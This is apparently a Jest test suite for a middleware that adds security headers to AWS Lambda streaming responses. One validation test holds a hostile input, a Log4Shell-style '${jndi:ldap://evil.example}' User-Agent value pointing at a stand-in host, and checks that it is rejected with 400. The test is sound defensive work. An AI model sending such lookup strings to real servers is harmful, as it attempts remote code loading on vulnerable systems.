import { withSecurityHeaders } from '../../../src/middleware';

const STREAMING = Symbol.for('aws.lambda.runtime.handler.streaming');
const HIGH_WATER_MARK = Symbol.for('aws.lambda.runtime.handler.streaming.highWaterMark');
const url = { version: '2.0', headers: {}, requestContext: { http: {} } };
const context = { awsRequestId: 'request-1' };

/** As Lambda's runtime does it: what goes before the body is written with the first `write`, and by nothing else. */
function runtimeStream() {
  const sent: unknown[] = [];
  const state: any = { contentType: 'application/octet-stream', started: false, ended: false };
  const stream: any = {};
  Object.defineProperty(stream, '_onBeforeFirstWrite', { get: () => state.before, set: (value) => { state.before = value; } });
  stream.setContentType = (type: string) => {
    if (state.started) {
      throw new Error('Cannot set content-type, too late.');
    }
    state.contentType = type;
  };
  stream.write = (chunk: unknown) => {
    if (!state.started && state.before) {
      state.before((before: unknown) => sent.push(before));
    }
    state.started = true;
    sent.push(chunk);
    return true;
  };
  stream.end = (last?: unknown) => {
    if (last !== undefined && typeof last !== 'function') {
      sent.push(last);
    }
    state.ended = true;
  };
  return {
    stream,
    state,
    response: () => {
      const text = Buffer.concat(sent.map((chunk) => Buffer.from(chunk as string))).toString();
      const [prelude, body] = text.split('\0'.repeat(8));
      return { ...JSON.parse(prelude), body };
    },
    sent,
  };
}

const from = (stream: any, prelude: object) => {
  stream.setContentType('application/vnd.awslambda.http-integration-response');
  stream._onBeforeFirstWrite = (write: (chunk: unknown) => void) => {
    write(JSON.stringify(prelude));
    write(new Uint8Array(8));
  };
  return stream;
};

const streamify = (handler: (event: any, stream: any, context: any) => Promise<unknown>) => Object.assign(handler,
  { [STREAMING]: 'response', [HIGH_WATER_MARK]: 7 });
const run = async (handler: (event: any, stream: any, context: any) => Promise<unknown>, options = {}, event: object = url) => {
  const runtime = runtimeStream();
  await (withSecurityHeaders(streamify(handler), options) as any)(event, runtime.stream, context);
  return runtime;
};

let logged: jest.SpyInstance;
beforeEach(() => {
  logged = jest.spyOn(console, 'error').mockImplementation(() => undefined);
});
afterEach(() => jest.restoreAllMocks());

test('adds headers to what HttpResponseStream.from sends, and leaves the handler its own', async () => {
  const { response, state } = await run(async (_, stream) => {
    const http = from(stream, { statusCode: 201, headers: { 'x-frame-options': 'SAMEORIGIN', 'Server': 'x' }, cookies: ['a=b'] });
    http.write('one ');
    http.write('two');
    http.end();
  });
  expect(response()).toMatchObject({
    statusCode: 201,
    cookies: ['a=b'],
    body: 'one two',
    headers: { 'x-frame-options': 'SAMEORIGIN', 'X-Content-Type-Options': 'nosniff' },
  });
  expect(response().headers).not.toHaveProperty('X-Frame-Options');
  expect(response().headers).not.toHaveProperty('Server');
  expect(state.ended).toBe(true);
});

test('gives a response without status and headers its own', async () => {
  const { response, state } = await run(async (_, stream) => {
    stream.setContentType('text/plain');
    stream.write('hello');
    stream.end();
  });
  expect(response())
    .toMatchObject({ statusCode: 200, headers: { 'Content-Type': 'text/plain', 'X-Frame-Options': 'DENY' }, body: 'hello' });
  expect(state.contentType).toBe('application/vnd.awslambda.http-integration-response');
});

test.each<[string, (stream: any) => void, string]>([
  ['the last chunk', (stream) => stream.end('bye'), 'bye'],
  ['nothing', (stream) => stream.end(), ''],
])('sends status and headers when the handler ends with %s', async (_, end, body) => {
  expect((await run(async (__, stream) => end(from(stream, { statusCode: 204 })))).response()).toMatchObject({
    statusCode: 204,
    body,
    headers: { 'X-Frame-Options': 'DENY' },
  });
  expect((await run(async (__, stream) => end(stream))).response()).toMatchObject({ statusCode: 200, body });
});

test('responds to an error before the first byte with 500, and leaves one after it to Lambda', async () => {
  const { response } = await run(async () => { throw new Error('hunter2'); });
  expect(response()).toMatchObject({
    statusCode: 500,
    headers: { 'X-Frame-Options': 'DENY' },
    body: '{"message":"Internal Server Error","requestId":"request-1"}',
  });
  expect(logged).toHaveBeenCalledTimes(1);
  await expect(run(async (_, stream) => { stream.write('a'); throw new Error('late'); })).rejects.toThrow('late');
  await expect(run(async () => { throw new Error('early'); }, { onError: 'rethrow' })).rejects.toThrow('early');
});

test('validates before the handler runs', async () => {
  jest.spyOn(console, 'warn').mockImplementation(() => undefined);
  const handler = jest.fn(async () => undefined);
  const { response } = await run(handler, { validate: true }, { ...url, headers: { 'User-Agent': '${jndi:ldap://evil.example}' } });
  expect(response()).toMatchObject({ statusCode: 400 });
  expect(handler).not.toHaveBeenCalled();
});

test('leaves the stream of an event that is no HTTP request as it is', async () => {
  const { sent } = await run(async (_, stream) => { stream.write('raw'); stream.end(); }, {}, { records: [] });
  expect(sent).toEqual(['raw']);
});

test('is known to the runtime as streaming, and wraps once', () => {
  const wrapped: any = withSecurityHeaders(streamify(async () => undefined));
  expect([wrapped[STREAMING], wrapped[HIGH_WATER_MARK]]).toEqual(['response', 7]);
  expect(withSecurityHeaders(wrapped)).toBe(wrapped);
});
